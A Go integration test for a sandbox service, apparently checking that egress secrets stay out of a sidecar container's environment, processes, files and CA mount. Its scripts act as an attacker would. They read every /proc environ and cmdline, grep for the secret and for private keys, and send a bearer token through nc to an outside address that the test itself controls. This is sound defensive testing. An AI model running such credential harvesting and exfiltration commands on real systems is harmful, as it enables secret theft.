package security

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"strings"
	"sync"
	"testing"
	"time"

	"connectrpc.com/connect"

	sandboxv1 "github.com/sandboxd/sandboxd/gen/coreweave/sandbox/v1"
	"github.com/sandboxd/sandboxd/gen/coreweave/sandbox/v1/sandboxv1connect"
	settingsv1 "github.com/sandboxd/sandboxd/gen/sandboxd/settings/v1"
	"github.com/sandboxd/sandboxd/gen/sandboxd/settings/v1/settingsv1connect"
	"github.com/sandboxd/sandboxd/internal/connecttest"
	"github.com/sandboxd/sandboxd/internal/egress/egresstest"
)

// TestEgressSecretSidecarAttacks attacks egress secrets in a multi-container sandbox
// (docs/secrets.md, "Secrets that never enter the sandbox"), from its sidecar: the
// sidecar gets the placeholder like the primary, and nothing of the value is in its
// environment, in the environment or command line of any process it can see (its PID
// namespace is its own: the primary's processes are not among them), in its files or
// in its CA mount (certificates only, read-only); a request it sends to a host the
// secret is not attached to (an address granted by a CIDR rule, in a network namespace
// of the test's, which records what arrives) carries the placeholder, never the value.
// Real clients (curl, Node.js) against a TLS injection host: test/e2e
// TestEgressSecretMultiContainer.
func TestEgressSecretSidecarAttacks(t *testing.T) {
	d := needDev(t)
	const value = "sidecar-sec-8e41b07d2c95"
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()

	in := egresstest.New(t)
	pub := in.Addr(t)
	l, err := in.Listen("tcp", pub.String()+":8080")
	if err != nil {
		t.Fatal(err)
	}
	var (
		mu       sync.Mutex
		received []byte
	)
	t.Cleanup(func() { l.Close() })
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			go func() {
				defer c.Close()
				_ = c.SetDeadline(time.Now().Add(5 * time.Second))
				b := make([]byte, 4096)
				n, _ := io.ReadAtLeast(c, b, 1)
				mu.Lock()
				received = append(received, b[:n]...)
				mu.Unlock()
				_, _ = io.WriteString(c, "HTTP/1.0 200 OK\r\nContent-Length: 5\r\n\r\nhello")
			}()
		}
	}()

	adminA, err := d.NewKey("org-a", "admin")
	if err != nil {
		t.Fatal(err)
	}
	hc := h2cClient()
	opts := []connect.ClientOption{connect.WithGRPC(), connect.WithInterceptors(connecttest.Bearer(adminA))}
	settings := sandboxv1connect.NewSettingsServiceClient(hc, d.API, opts...)
	secrets := settingsv1connect.NewSecretServiceClient(hc, d.API, opts...)
	if _, err := settings.CreateSecretStore(ctx, connect.NewRequest(&sandboxv1.CreateSecretStoreRequest{SecretStore: &sandboxv1.SecretStore{Name: "egress-sidecar"}})); err != nil {
		t.Fatal(err)
	}
	if _, err := secrets.PutSecret(ctx, connect.NewRequest(&settingsv1.PutSecretRequest{StoreName: "egress-sidecar", Path: "api", Field: "token", Value: value})); err != nil {
		t.Fatal(err)
	}

	spec := map[string]any{
		"containers": []any{
			map[string]any{"name": "main", "image": "busybox", "command": "sleep", "args": []string{"601"}, "primary": true},
			map[string]any{"name": "side", "image": "busybox", "command": "sleep", "args": []string{"602"}},
		},
		"maxLifetimeSeconds": 300,
		"network": map[string]any{"egress": []any{
			map[string]any{"httpsHostname": "api.example.com",
				"sandboxdSecret": map[string]any{"storeName": "egress-sidecar", "path": "api", "field": "token", "envVar": "API_TOKEN"}},
			map[string]any{"cidr": map[string]any{"cidr": pub.String() + "/32"}},
		}},
	}
	code, body := d.rest(t, d.KeyA, "POST", "/v1/sandboxes", map[string]any{"spec": spec})
	var sb sandboxJSON
	_ = json.Unmarshal(body, &sb)
	if code != http.StatusOK || sb.SandboxID == "" {
		t.Fatalf("create: HTTP %d %s", code, body)
	}
	id := sb.SandboxID
	t.Cleanup(func() { d.rest(t, d.KeyA, "DELETE", "/v1/sandboxes/"+id, nil) })
	if st, body := d.wait(t, d.KeyA, id); st != "STATE_RUNNING" {
		t.Fatalf("sandbox %s: %s", st, body)
	}
	execIn := func(container, script string) string {
		t.Helper()
		code, body := d.rest(t, d.KeyA, "POST", "/v1/sandboxes/"+id+":exec", map[string]any{"command": []string{"sh", "-c", script}, "container": container})
		if code != http.StatusOK {
			t.Fatalf("exec in %s: HTTP %d %s", container, code, body)
		}
		var r struct {
			Stdout []byte `json:"stdout"`
			Stderr []byte `json:"stderr"`
		}
		if err := json.Unmarshal(body, &r); err != nil {
			t.Fatalf("exec: %v: %s", err, body)
		}
		out := string(r.Stdout) + string(r.Stderr)
		if strings.Contains(out, value) {
			t.Fatalf("the value is inside container %s:\n%s", container, out)
		}
		return out
	}

	mainPH := placeholderIn(execIn("main", "env"))
	// The sidecar: its environment, every process's environment and command line it
	// sees, its files (for the value's first 8 bytes), its CA mount.
	// (A bracket in the pattern keeps grep's own command line from matching it.)
	pattern := func(s string) string { return s[:len(s)-1] + "[" + s[len(s)-1:] + "]" }
	out := execIn("side", `env; echo ---; for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do cat $f 2>/dev/null | tr '\0' ' '; echo; done; echo ---; `+
		`echo "scan begin"; grep -rlsE '`+pattern(value[:8])+`' /etc /root /tmp /run /var /home /bin /proc/[0-9]*/environ /proc/[0-9]*/cmdline; echo "scan done"; `+
		`echo "control begin"; grep -rlsE '`+pattern("sbx-secret-")+`' /proc/[0-9]*/environ; echo "control done"; `+
		`grep -l "PRIVATE KEY" /etc/sandboxd-egress/* || echo no-key; (echo x >> /etc/sandboxd-egress/ca.pem) 2>/dev/null && echo written || echo write-refused`)
	sidePH := placeholderIn(out)
	if mainPH == "" || sidePH != mainPH {
		t.Errorf("placeholders: main %q, side %q (want the same, sbx-secret-…)", mainPH, sidePH)
	}
	if strings.Contains(out, "sleep 601") || !strings.Contains(out, "sleep 602") {
		t.Errorf("the sidecar's processes (want its own only):\n%s", out)
	}
	if _, a, ok := strings.Cut(out, "scan begin\n"); !ok || !strings.HasPrefix(a, "scan done\n") {
		t.Errorf("files or processes of the sidecar hold the value's prefix:\n%s", out)
	}
	// The control: the same scan finds the placeholder in the environments (the scan works).
	if _, a, ok := strings.Cut(out, "control begin\n"); !ok || !strings.HasPrefix(a, "/proc/") {
		t.Errorf("the scan's control found no placeholder:\n%s", out)
	}
	if !strings.Contains(out, "no-key") || !strings.Contains(out, "write-refused") || !strings.Contains(out, "SSL_CERT_FILE=/etc/sandboxd-egress/bundle.pem") {
		t.Errorf("the sidecar's CA mount and variables:\n%s", out)
	}

	// A request from the sidecar to a host the secret is not attached to: the
	// placeholder arrives, never the value.
	got := execIn("side", fmt.Sprintf(`printf 'GET / HTTP/1.0\r\nAuthorization: Bearer %%s\r\n\r\n' "$API_TOKEN" | nc -w 3 %s 8080`, pub))
	if !strings.Contains(got, "hello") {
		t.Fatalf("the granted address did not answer: %q", got)
	}
	mu.Lock()
	rec := string(received)
	mu.Unlock()
	if strings.Contains(rec, value) || !strings.Contains(rec, "Authorization: Bearer "+sidePH) {
		t.Errorf("the other host received %q, want the placeholder %s", rec, sidePH)
	}
}

// placeholderIn is the API_TOKEN placeholder in env output ("" when absent).
func placeholderIn(env string) string {
	for _, l := range strings.Split(env, "\n") {
		if v, ok := strings.CutPrefix(l, "API_TOKEN="); ok && strings.HasPrefix(v, "sbx-secret-") {
			return v
		}
	}
	return ""
}
